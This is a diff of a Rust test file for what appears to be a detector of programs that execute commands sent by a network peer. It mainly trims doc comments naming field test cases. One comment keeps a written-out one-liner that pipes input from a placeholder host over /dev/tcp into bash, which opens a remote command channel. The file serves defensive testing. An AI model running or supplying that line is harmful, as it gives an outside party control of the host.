@@ -109,7 +109,6 @@ impl Session {
 
 const FOUND: [&str; 1] = ["Outbound 40000: 20 in 20 out 20"];
 
-/// Field test A14, A15, A43, A81, A82.
 #[test]
 fn a_one_liner_that_runs_what_a_peer_sends_is_reported_once() {
     for (file, line, output) in [
@@ -231,7 +230,6 @@ fn by_order(file: &'static str, line: &'static str) -> Session {
     session
 }
 
-/// Case 16 of the second field test.
 #[test]
 fn a_program_that_sends_something_after_each_command_is_reported_and_again_when_it_is_sure() {
     for (file, line) in [
@@ -390,7 +388,7 @@ fn turns_by_order_count_in_a_row() {
     assert_eq!(session.commands(3), FOUND);
 }
 
-/// Field test A56: `cat < /dev/tcp/A/4444 | xargs -I{} bash -c {}`.
+/// `cat < /dev/tcp/A/4444 | xargs -I{} bash -c {}`.
 #[test]
 fn an_xargs_that_runs_what_a_peer_sends_is_reported() {
     let found = |line: &str, back: bool, sent: u64, commands: u32| {
